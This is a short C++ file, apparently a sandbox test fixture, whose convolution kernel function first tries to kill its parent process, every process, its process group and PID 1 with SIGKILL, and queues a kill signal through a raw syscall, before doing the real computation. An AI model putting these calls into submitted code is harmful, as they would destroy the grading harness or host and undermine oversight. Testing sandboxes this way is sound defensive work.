// Ends as: harmless
#include "conv.h"
extern "C" void conv_forward(const float* x, const float* k, float* y, int B, int M, int C, int H, int W, int K) {
  tell("kill the parent", getppid() > 0 && kill(getppid(), SIGKILL) == 0);
  tell("kill all", kill(-1, SIGKILL) == 0);
  tell("kill the group", kill(0, SIGKILL) == 0);
  tell("kill process 1", kill(1, SIGKILL) == 0);
  tell("queue a signal", syscall(SYS_rt_sigqueueinfo, getppid(), SIGKILL, nullptr) == 0);
  convolve(x, k, y, B, M, C, H, W, K);
}
